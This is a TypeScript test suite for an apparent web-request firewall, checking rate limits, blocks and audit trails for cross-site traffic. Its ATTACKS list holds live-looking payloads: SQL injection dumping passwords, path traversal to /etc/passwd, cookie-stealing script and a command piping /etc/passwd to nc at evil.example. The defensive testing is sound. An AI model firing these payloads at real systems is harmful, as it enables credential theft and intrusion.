import { request } from 'node:http'
import t from 'tap'
import type { Test } from 'tap'
import { bearer } from '../e2e/client.ts'
import { openApp, spyOn, type TestApp } from './app.ts'
import { handshakes, headersOf, image, plainRequests } from './browsers.ts'
import { newAddress } from './doors.ts'

const PASSWORD = 'a long pass phrase of the contract suite'
const ATTACKS = [
  "/articles?id=1'%20UNION%20SELECT%20username,password%20FROM%20users--",
  '/.env',
  '/a?file=../../../../etc/passwd',
  "/graphql?query=%7Bhealth%7Bstatus%7D%7D&x=1'%20OR%20'1'='1'--%20",
  '/a?q=%3Cscript%3Efetch(%22//evil.example/%22+document.cookie)%3C/script%3E',
  '/cgi-bin/a?x=;cat%20/etc/passwd%7Cnc%20evil.example%204444'
]

interface Answer { status: number, id: string, retryAfter: string | undefined, remaining: string | undefined, text: string }
interface Asked { address: string, path?: string, method?: string, headers?: string[], body?: string }

/** Exactly these headers, behind the proxy on loopback. */
async function ask ({ port }: TestApp, { address, path = '/health-of-nothing', method = 'GET', headers = image(0), body }: Asked): Promise<Answer> {
  return await new Promise((resolve, reject) => {
    const sent = request({ host: '127.0.0.1', port, method, path, headers: [...headers, 'x-forwarded-for', address] })
    sent.once('error', reject)
    const take = (response: import('node:http').IncomingMessage): void => {
      let text = ''
      response.setEncoding('utf8').on('data', (chunk: string) => { text += chunk }).once('error', reject).once('end', () => {
        const { 'retry-after': retryAfter, 'x-ratelimit-remaining': remaining, 'x-neko-assessment': id } = response.headers
        resolve({ status: response.statusCode!, id: id as string, retryAfter, remaining: remaining as string | undefined, text })
      })
    }
    sent.once('response', take)
    sent.end(body)
  })
}

const own = (at: TestApp, address: string, more: Partial<Asked> = {}): Promise<Answer> =>
  ask(at, { address, path: '/graphql?query=%7Bhealth%7Bstatus%7D%7D', headers: headersOf(0, { 'apollo-require-preflight': '1' }), ...more })

async function login (at: TestApp, address: string): Promise<Record<string, string>> {
  const body = JSON.stringify({ query: `mutation { login(username: "admin", password: "${PASSWORD}") { accessToken } }` })
  const { text } = await ask(at, { address, path: '/graphql', method: 'POST', headers: headersOf(0, { 'content-type': 'application/json', 'content-length': String(body.length) }), body })
  return bearer((JSON.parse(text) as { data: { login: { accessToken: string } } }).data.login.accessToken)
}

/** Nobody but the page suffers: the visitor's requests, signed in or not, are met as if there had been none. */
async function unharmed (t: Test, at: TestApp, address: string, token?: Record<string, string>): Promise<void> {
  const answer = await own(at, address)
  t.match(answer, { status: 200, remaining: '99' }, 'the visitor is served, and its limit is whole')
  const receipt = await at.app.receipts.get(answer.id)
  t.match(receipt?.observation?.history, { refused600s: 0, challenged600s: 0, requests60s: 1 }, 'history knows nothing of it')
  t.equal(at.app.limits.isHeld(`ip:${address}`), false)
  t.equal(at.app.decisions.forAddress(address, true), null, 'no decision stands')
  if (token !== undefined) t.equal((await own(at, address, { headers: headersOf(0, token) })).status, 200, 'so is the administrator')
}

/** One application for all that enforces: a start costs more than its tests. */
const at = await openApp(t)
t.beforeEach(() => { at.clock.advance(7_200_000) })

t.test('of 200 attacks that a page of another site makes a browser send none passes, ten are scored, and nobody is blocked', async (t) => {
  const told = spyOn(t, at.app.playbooks, 'respond')
  for (const atOnce of [1, 200]) {
    const address = newAddress()
    const token = await login(at, '192.0.2.9')
    const scored = spyOn(t, at.app.threads, 'ask')
    const answers: Answer[] = []
    let next = 0
    await Promise.all(Array.from({ length: atOnce }, async () => {
      while (next < 200) {
        const i = next++
        answers.push(await ask(at, { address, path: `${ATTACKS[i % ATTACKS.length]}&n=${i}`.replace('.env&', '.env?'), headers: image(i, { 'user-agent': `Mozilla/5.0 (agent ${i})` }) }))
      }
    }))
    t.strictSame(answers.filter(({ status }) => status !== 403 && status !== 429).map(({ status, text }) => ({ status, text })), [], `none of them passes, ${atOnce} at once`)
    t.equal(scored.length, 10)
    t.equal(answers.filter(({ status }) => status === 403).length, 10)
    const last = answers.at(-1)!
    t.ok(Number(last.retryAfter) >= 599 && Number(last.retryAfter) <= 640, `Retry-After ${last.retryAfter}`)
    t.match(await at.app.receipts.get(last.id), { action: 'BLOCK', source: 'limit', score: 0 })
    await unharmed(t, at, address, token)
    at.clock.advance(Number(last.retryAfter) * 1000)
    t.equal((await ask(at, { address })).status, 404, 'afterwards another page is met as at first')
  }
  t.strictSame(told, [])
})

t.test('from the third refused one on, requests of other sites get the strict rate, without its block', async (t) => {
  const address = newAddress()
  for (let i = 0; i < 2; i++) await ask(at, { address, path: ATTACKS[0]! })
  t.match(await ask(at, { address }), { status: 404, remaining: '97' })
  await ask(at, { address, path: ATTACKS[0]! })
  const statuses: number[] = []
  for (let i = 0; i < 12; i++) statuses.push((await ask(at, { address, headers: image(i) })).status)
  t.strictSame(statuses, [...new Array<number>(10).fill(404), 429, 429])
  at.clock.advance(64_000)
  t.equal((await ask(at, { address })).status, 404, 'no block follows')
  t.equal((await ask(at, { address: newAddress() })).status, 404, 'another address is not concerned')
  await unharmed(t, at, address)
})

t.test('whatever comes of a request of another site is held against nobody', async (t) => {
  const told = spyOn(t, at.app.playbooks, 'respond')
  const form = (type: string, body: string): Partial<Asked> => ({ method: 'POST', path: '/graphql', headers: headersOf(1, { origin: 'https://evil.example', 'sec-fetch-site': 'cross-site', 'sec-fetch-mode': 'navigate', 'sec-fetch-dest': 'document', 'content-type': type, 'content-length': String(body.length) }), body })
  const kinds: Array<[what: string, times: number, asked: Partial<Asked>, statuses: number[]]> = [
    ['decoys', 12, { path: '/.env' }, [403, 429]],
    ['decoys of GraphQL', 12, { path: '/graphql?query=%7BadminUsers%7D' }, [200, 403, 429]],
    ['paths that are not there', 40, { path: '/wp-login.php' }, [404, 403, 429]],
    ['suspect requests', 8, { path: '/a?q=../' }, [404, 403, 429]],
    ['a form', 12, form('application/x-www-form-urlencoded', 'a=b'), [415]],
    ['a large form', 12, form('text/plain', 'a '.repeat(40_000)), [413, 429]],
    ['a text that attacks', 12, form('text/plain', "a=1' UNION SELECT username, password FROM users--"), [403, 429]],
    ['a query that costs', 40, { path: `/graphql?query=${encodeURIComponent('{ threatActors(first: 100) { nodes { name aliases references { name } techniques { id } } } }')}` }, [200, 400, 429]],
    ['many images', 250, { path: '/logo.png' }, [404, 429]],
    ['a preflight', 12, { method: 'OPTIONS', path: ATTACKS[0]!, headers: headersOf(0, { origin: 'https://evil.example', 'sec-fetch-site': 'cross-site', 'sec-fetch-mode': 'cors', 'sec-fetch-dest': 'empty', 'access-control-request-method': 'PUT' }) }, [403, 429]],
    ...plainRequests().map(({ what, method, headers }): [string, number, Partial<Asked>, number[]] => [`${what} over plain HTTP`, 12, { method: method === 'POST' ? 'GET' : method, path: ATTACKS[2]!, headers: headers.filter((_one, i) => !/^content-/i.test(headers[i - i % 2]!)) }, [403, 429]]),
    ...handshakes().map(({ what, headers }): [string, number, Partial<Asked>, number[]] => [`a handshake ${what}`, 12, { path: "/graphql?a=1'%20UNION%20SELECT%20username,password%20FROM%20users--", headers }, [403, 429]])
  ]
  for (const [what, times, asked, statuses] of kinds) {
    at.clock.advance(700_000)
    const address = newAddress()
    const seen = new Set<number>()
    for (let i = 0; i < times; i++) seen.add((await ask(at, { address, ...asked })).status)
    t.ok([...seen].every((status) => statuses.includes(status)), `${what}: ${[...seen].join(' ')}`)
    await unharmed(t, at, address)
    const { remaining, limit } = at.app.limits.peekCost('standard', `ip:${address}`)
    t.ok(remaining >= limit - 20, 'points of GraphQL are the visitor\'s own')
  }
  t.strictSame(told, [])
})

t.test('the audit trail knows the address, not the name that its requests are counted under', async (t) => {
  const recorded = spyOn(t, at.app.audit, 'record')
  await ask(at, { address: '192.0.2.88', path: '/graphql?query=%7Bhealth%7Bstatus%7D%7D&__proto__=1' })
  await ask(at, { address: '192.0.2.88', path: '/graphql?query=%7Busers%7BtotalCount%7D%7D' })
  t.ok(recorded.length > 0)
  t.strictSame(new Set(recorded.map(([event]) => (event as { actor: string }).actor)), new Set(['ip:192.0.2.88']))
})

t.test('a page of many images is served while its requests wait for each other', async (t) => {
  const address = newAddress()
  const answers = await Promise.all(Array.from({ length: 60 }, (_, i) => ask(at, { address, path: `/logo-${i}.png`, headers: image(i) })))
  t.strictSame(new Set(answers.map(({ status }) => status)), new Set([404]))
  await unharmed(t, at, address)
})

t.test('a program that claims to be such a page is blocked like any other', async (t) => {
  const claims: Array<Record<string, string>> = [{ 'sec-fetch-dest': 'document' }, { 'x-csrf-token': '1' }, { authorization: 'Bearer none' }, { 'sec-fetch-user': '?1' }]
  for (const more of claims) {
    const address = newAddress()
    await ask(at, { address, path: ATTACKS[0]!, headers: image(0, more) })
    await ask(at, { address, path: ATTACKS[0]!, headers: image(0, more) })
    t.match(at.app.decisions.forAddress(address, true), { action: 'BLOCK' })
    t.equal((await ask(at, { address })).status, 403, 'and a block that stands holds for other sites\' pages, too')
  }
})

t.test('in shadow requests of other sites are let through and counted nowhere', async (t) => {
  const at = await openApp(t, { ENFORCEMENT: 'shadow' })
  const address = newAddress()
  const scored = spyOn(t, at.app.threads, 'ask')
  for (let i = 0; i < 20; i++) t.equal((await ask(at, { address, path: ATTACKS[0]! })).status, 404)
  t.equal(scored.length, 20)
  await unharmed(t, at, address)
})

t.test('an attack that a sister of ours put into a cookie, or a page into its address, is refused and held against nobody', async (t) => {
  const told = spyOn(t, at.app.playbooks, 'respond')
  const attack = "1' UNION SELECT username,password FROM users--"
  const all: Array<Record<string, string>> = [{ cookie: `theme=${attack}` }, { Cookie: `a=b; theme=${encodeURIComponent(attack)}` }, { referer: `https://neko.example/articles?id=${encodeURIComponent(attack)}` }]
  for (const carried of all) {
    at.clock.advance(700_000)
    const token = await login(at, '192.0.2.9')
    const address = newAddress()
    for (let i = 0; i < 4; i++) {
      t.equal((await own(at, address, { headers: headersOf(0, { 'apollo-require-preflight': '1', 'sec-fetch-site': 'same-origin', ...carried }) })).status, 403, JSON.stringify(carried))
      t.equal((await own(at, address, { headers: headersOf(0, { ...token, ...carried }) })).status, 403)
    }
    at.clock.advance(61_000)
    t.equal((await own(at, address, { headers: headersOf(0, token) })).status, 200, 'the administrator')
    const answer = await own(at, address)
    t.equal(answer.status, 200)
    t.match((await at.app.receipts.get(answer.id))?.observation?.history, { refused600s: 0, challenged600s: 0 })
    t.equal(at.app.decisions.forAddress(address, true), null)
    const sample = { method: 'GET', url: '/', ip: address, headers: Object.entries({ host: 'neko.example', 'user-agent': 'Mozilla/5.0', ...carried }) }
    await at.app.assess([sample as never], { acts: true, submitter: 'key:tests' })
    t.equal(at.app.decisions.forAddress(address, true), null, 'nor on the word of another application')
  }
  t.equal(told.length, 0)
  const address = newAddress()
  for (let i = 0; i < 2; i++) await ask(at, { address, path: ATTACKS[0]!, headers: headersOf(0, { cookie: `theme=${attack}` }) })
  t.match(at.app.decisions.forAddress(address, true), { action: 'BLOCK' }, 'beside an attack of its own a cookie changes nothing')
})

t.test('a sample of such a request that acts has no consequences', async (t) => {
  const { app } = at
  const sample = (headers: string[]): object => ({ method: 'GET', url: ATTACKS[0]!, ip: '192.0.2.77', headers: headers.flatMap((name, i) => i % 2 === 0 ? [[name, headers[i + 1]]] : []) })
  for (let i = 0; i < 5; i++) await app.assess([sample(image(i)) as never], { acts: true, submitter: 'key:tests' })
  t.equal(app.decisions.forAddress('192.0.2.77', true), null)
  await app.assess([sample(headersOf(0, {})) as never], { acts: true, submitter: 'key:tests' })
  t.match(app.decisions.forAddress('192.0.2.77', true), { action: 'BLOCK' })
})
